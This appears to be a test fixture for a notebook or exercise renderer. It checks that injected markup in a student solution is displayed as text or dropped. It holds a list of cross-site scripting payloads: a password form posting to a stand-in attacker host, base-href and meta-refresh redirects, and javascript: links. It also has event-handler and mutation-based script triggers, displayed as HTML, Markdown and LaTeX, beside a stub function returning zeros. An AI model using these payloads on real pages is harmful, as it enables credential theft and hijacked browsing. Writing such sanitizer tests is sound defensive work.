# exercise: broadcasting_rules/center
# tries: to show a form that asks for a password, and to lead the page elsewhere
# must: the page shows it as text, or not at all
# seen: thought up for this collection, 2026-11
# never: ="https://steal.example
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
from IPython.display import HTML, Latex, Markdown, display
evil = ('<form action="https://steal.example"><input name=p type=password></form><base href="https://steal.example/">'
        '<meta http-equiv=refresh content="0;url=https://steal.example"><iframe srcdoc="<script>steal()</script>"></iframe>'
        '<object data="https://steal.example"></object><embed src="https://steal.example"><link rel=stylesheet href="https://steal.example">'
        '<a href="javascript:steal()">x</a><a href="https://other.example" ping="https://steal.example">y</a>'
        '<video src=x onerror=steal()></video><details ontoggle=steal() open>z</details><input autofocus onfocus=steal()>'
        '<button formaction="javascript:steal()">b</button><math><mtext><style><img src=x onerror=steal()></style></mtext></math>'
        '<template shadowrootmode=open><img src=x onerror=steal()></template><img srcset="https://steal.example 1x">')
for kind in (HTML, Markdown, Latex):
    display(kind(evil))
# %% words
<form action="https://steal.example"><input type=password></form><base href="https://steal.example/">
<meta http-equiv=refresh content="0;url=https://steal.example">
